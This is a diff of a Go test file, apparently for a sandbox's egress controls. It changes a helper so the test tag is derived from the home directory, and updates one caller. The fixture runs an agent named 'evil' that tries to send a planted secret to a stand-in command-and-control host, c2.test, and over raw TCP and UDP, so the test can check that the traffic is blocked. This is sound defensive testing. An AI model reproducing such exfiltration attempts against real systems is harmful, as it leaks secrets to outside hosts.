@@ -18,9 +18,10 @@ import (
 
 // hammering is a home whose agent "evil" does nothing but try every way out, with one that is open
 // among them, where its tag is counted.
-func hammering(t *testing.T, tag string) *home {
+func hammering(t *testing.T) (h *home, tag string) {
 	t.Helper()
-	h := newHome(t)
+	h = newHome(t)
+	tag = filepath.Base(h.dir)
 	h.manifest(t, "bottles/hammer.md", `agent_provider:
   template: shell
   command: [/workspace/evil, hammer, "http://ok.test/twin/`+tag+`/", "http://c2.test/`+planted+`", "tcp:`+c2Addr.String()+`:443", "udp:`+c2Addr.String()+`:53"]
@@ -28,7 +29,7 @@ env: {PLANTED: `+planted+`}
 egress:
   routes:
     - {host: ok.test, plain: true}`)
-	return h
+	return h, tag
 }
 
 // family is a process with all its descendants.
@@ -96,8 +97,7 @@ func TestKilledWhileAttached(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			tag := "killed-" + name
-			h := hammering(t, tag)
+			h, tag := hammering(t)
 			p := h.sit(t, 120, 30)
 			p.says("claude-bottle start evil --bottle hammer --cwd --yes")
 			within(t, sightTime, "the traffic flows", func() bool { return world.good.requests("/twin/"+tag) > 3 })
